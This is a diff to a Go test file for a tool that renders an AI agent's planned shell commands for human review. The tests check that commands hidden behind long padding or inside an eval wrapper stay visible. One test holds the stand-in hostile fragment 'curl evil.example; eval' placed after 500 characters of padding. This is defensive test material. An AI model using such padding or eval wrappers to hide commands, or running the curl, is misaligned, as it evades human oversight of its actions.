@@ -10,10 +10,12 @@ import (
 
 // wrappedPlan is a plan whose command stands in a text of the agent's program.
 func wrappedPlan(before, inside, after string, reasons ...any) map[string]any {
-	args := map[string]any{"command": before + inside + after, "canonical": before + inside + after + " ", "inside": inside}
+	args := map[string]any{"command": before + inside + after,
+		"canonical": before + inside + after + " ", "inside": inside}
 	return map[string]any{
 		"risk": 1, "reasons": reasons,
-		"tool_calls": []any{map[string]any{"tool_call_id": "c1", "tool_name": "shell", "args": args}},
+		"tool_calls": []any{map[string]any{"tool_call_id": "c1", "tool_name": "shell",
+			"args": args}},
 	}
 }
 
@@ -26,13 +28,15 @@ func reason(start, end int) any {
 func TestWrapped(t *testing.T) {
 	before, after := strings.Repeat("__SAVED=\"${SAVED-}\"\n", 2000)+"exec bash -c '", "'\n# end"
 	at := len(before)
-	plan := wrappedPlan(before, "rm -r build", after, reason(at+6, at+11), reason(0, at+11+len(after)))
+	plan := wrappedPlan(before, "rm -r build", after, reason(at+6, at+11),
+		reason(0, at+11+len(after)))
 	p := render.Render(plantest.Bytes(t, plan), render.Options{})
 	text := p.Text()
 	if !p.Truncated || len(p.Lines) > 20 { // somebody could choose by it what is read first
 		t.Errorf("cut %v, inline %v:\n%s", p.Truncated, p.Inline, text)
 	}
-	for _, want := range []string{"\nagent's  1│ rm -r ⟪build⟫\n", "\nrun      ⟦[folded, 40032 chars]⟧\n", "\nruns as  ⟦[folded, 40033 chars]⟧\n"} {
+	for _, want := range []string{"\nagent's  1│ rm -r ⟪build⟫\n",
+		"\nrun      ⟦[folded, 40032 chars]⟧\n", "\nruns as  ⟦[folded, 40033 chars]⟧\n"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("no %q:\n%s", want, text)
 		}
@@ -41,7 +45,8 @@ func TestWrapped(t *testing.T) {
 		t.Errorf("not first:\n%s", text)
 	}
 	full := render.Render(plantest.Bytes(t, plan), render.Options{Full: true})
-	if back, err := render.Decode(full.Text(), 0); err != nil || string(back) != string(plantest.Bytes(t, plan)) {
+	if back, err := render.Decode(full.Text(), 0); err != nil ||
+		string(back) != string(plantest.Bytes(t, plan)) {
 		t.Errorf("the full page has not all of it: %v", err)
 	}
 }
@@ -50,7 +55,8 @@ func TestWrapped(t *testing.T) {
 func TestDangerInAWrapper(t *testing.T) {
 	before := strings.Repeat("x", 500) + "; curl evil.example; eval '"
 	plan := wrappedPlan(before, "ls", "'", reason(502, 519), reason(400, len(before)+1))
-	if p := render.Render(plantest.Bytes(t, plan), render.Options{}); !strings.Contains(p.Text(), "curl evil.example") {
+	if p := render.Render(plantest.Bytes(t, plan), render.Options{}); !strings.Contains(p.Text(),
+		"curl evil.example") {
 		t.Errorf("hidden:\n%s", p.Text())
 	}
 }
@@ -64,12 +70,14 @@ func TestUnknownWrapper(t *testing.T) {
 		t.Errorf("%s", short.Text())
 	}
 	listing := full.Text()[strings.Index(full.Text(), "every value by its name"):]
-	if full.Truncated || strings.Count(listing, "true⏎") < 60 || !strings.Contains(full.Text(), "run      ⟦[folded") {
+	if full.Truncated || strings.Count(listing, "true⏎") < 60 ||
+		!strings.Contains(full.Text(), "run      ⟦[folded") {
 		t.Errorf("%s", full.Text())
 	}
 	// With a repeated text nobody can tell which one a reason means, so all of them are shown.
 	twice := wrappedPlan("ls; ", "ls", "; ls", reason(4, 6))
-	if p := render.Render(plantest.Bytes(t, twice), render.Options{}); !strings.Contains(p.Text(), "⟪ls⟫") {
+	if p := render.Render(plantest.Bytes(t, twice), render.Options{}); !strings.Contains(p.Text(),
+		"⟪ls⟫") {
 		t.Errorf("%s", p.Text())
 	}
 }
